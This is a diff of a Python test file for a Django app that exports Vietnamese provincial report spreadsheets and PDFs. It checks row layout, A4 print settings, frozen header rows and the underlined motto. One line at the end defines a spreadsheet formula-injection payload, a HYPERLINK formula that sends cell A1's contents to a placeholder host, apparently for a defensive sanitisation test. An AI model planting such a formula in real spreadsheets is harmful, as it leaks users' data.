@@ -11,6 +11,8 @@ from kynangso.reports import api as reports
 from kynangso.reports.documents import date_line, figure_text
 from tests.reports.conftest import YEAR, fill_sections
 
+CAMPAIGNS, STEM = "Số chiến dịch truyền thông về kỹ năng số", "Tỷ lệ trường tổ chức hoạt động STEM/STEAM"
+
 pytestmark = pytest.mark.django_db
 VN = ZoneInfo("Asia/Ho_Chi_Minh")
 
@@ -47,9 +49,11 @@ def test_the_unit_report_spreadsheet_has_the_header_and_the_figures(approved_rep
     assert "Độc lập - Tự do - Hạnh phúc" in flat
     assert "Số: 15/BC-UBND" in flat
     assert "An Bình, ngày 05 tháng 12 năm 2026" in flat
-    by_code = {row[0]: row for row in cells if row[0] in ("chien-dich", "truong-stem")}
-    assert by_code["chien-dich"][3:6] == (6, 8, 2)
-    assert by_code["truong-stem"][3:6] == (40, 50, 10)
+    table = [row for row in cells if isinstance(row[0], int)]
+    assert [row[0] for row in table] == [1, 2]  # «STT», not internal codes
+    by_name = {row[1]: row for row in table}
+    assert by_name[CAMPAIGNS][3:6] == (6, 8, 2)
+    assert by_name[STEM][3:6] == (40, 50, 10)
     assert "Nơi nhận:" in flat and "- UBND tỉnh;" in flat
     assert "TRẦN VĂN BÌNH" not in flat and "Trần Văn Bình" in flat
 
@@ -77,13 +81,13 @@ def test_the_consolidated_spreadsheet_sums_the_units_and_lists_who_reported(appr
                                                today=datetime.date(YEAR, 12, 20))
     book = load_workbook(io.BytesIO(reports.province_report_xlsx(consolidated)))
     summary = [row for row in book["Tổng hợp"].iter_rows(values_only=True)]
-    province_row = next(row for row in summary if row[0] == "chien-dich")
-    assert province_row[3:5] == (15, 20)
-    units = {row[0]: row[1:] for row in book["Theo đơn vị"].iter_rows(min_row=3, values_only=True)}
+    province_row = next(row for row in summary if row[1] == CAMPAIGNS)
+    assert province_row[0] == 1 and province_row[3:5] == (15, 20)
+    units = {row[1]: row[2:] for row in book["Theo đơn vị"].iter_rows(min_row=3, values_only=True)}
     assert units["Xã An Bình"][0] == 6
     assert units["Phường Bình Minh"][0] == 9
     assert units["Sở Khoa học và Công nghệ"][0] is None
-    status = {row[0]: row[1:] for row in book["Tình hình gửi báo cáo"].iter_rows(min_row=3, values_only=True)}
+    status = {row[1]: row[2:] for row in book["Tình hình gửi báo cáo"].iter_rows(min_row=3, values_only=True)}
     assert status["Xã An Bình"] == ("Đã duyệt", "05/12/2026", "Đúng hạn")
     assert status["Phường Bình Minh"] == ("Chưa lập", None, "Trễ hạn")
 
@@ -96,6 +100,27 @@ def test_the_consolidated_pdf_has_the_province_figures_and_the_late_units(approv
     assert "15 20 5" in text  # province: value, target, gap of the campaigns
     assert "Xã An Bình" in text and "Phường Bình Minh" in text
     assert "Trễ hạn" in text
+
+
+def test_every_sheet_prints_on_a4_fitted_to_width_with_its_header_row_repeated_and_frozen(approved_report, followed,
+                                                                                          province):
+    consolidated = reports.consolidated_report(province=province.root, year=YEAR, plan_id=followed.plan.pk,
+                                               today=datetime.date(YEAR, 12, 20))
+    books = [load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))),
+             load_workbook(io.BytesIO(reports.province_report_xlsx(consolidated)))]
+    for sheet in (sheet for book in books for sheet in book.worksheets):
+        setup = sheet.page_setup
+        assert int(setup.paperSize) == int(sheet.PAPERSIZE_A4), sheet.title  # 9: A4
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage and setup.fitToWidth == 1 and setup.fitToHeight == 0
+        header_row = int(sheet.print_title_rows.split(":")[0].lstrip("$"))
+        assert sheet[f"A{header_row}"].value == "STT", sheet.title
+        assert sheet.freeze_panes == f"A{header_row + 1}", sheet.title
+
+
+def test_the_motto_is_underlined_in_the_spreadsheet(approved_report):
+    sheet = load_workbook(io.BytesIO(reports.unit_report_xlsx(approved_report))).active
+    motto = next(cell for row in sheet.iter_rows() for cell in row if cell.value == "Độc lập - Tự do - Hạnh phúc")
+    assert motto.font.underline == "single" and motto.font.bold
 
 
 MALICIOUS = '=HYPERLINK("http://x?d="&A1,"x")'
